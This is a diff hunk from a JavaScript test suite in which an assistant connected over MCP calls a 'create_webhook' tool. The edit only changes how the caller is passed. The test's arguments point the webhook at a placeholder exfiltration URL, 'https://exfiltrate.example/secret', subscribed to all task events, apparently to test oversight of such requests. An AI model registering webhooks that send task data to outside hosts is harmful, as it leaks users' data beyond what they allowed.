@@ -355,7 +355,7 @@ test('an assistant over MCP is told what it waits for, and a webhook waits, too,
   const key = (await served.app.keys.authenticate(`Bearer ${held.key}`, 'mcp', { ip: '' })).key
   const result = await callTool(
     served.app,
-    assistantOf(served, served.bob, { key }),
+    { caller: assistantOf(served, served.bob, { key }) },
     {
       name: 'create_webhook',
       arguments: { url: 'https://exfiltrate.example/secret', events: ['task.*'] },
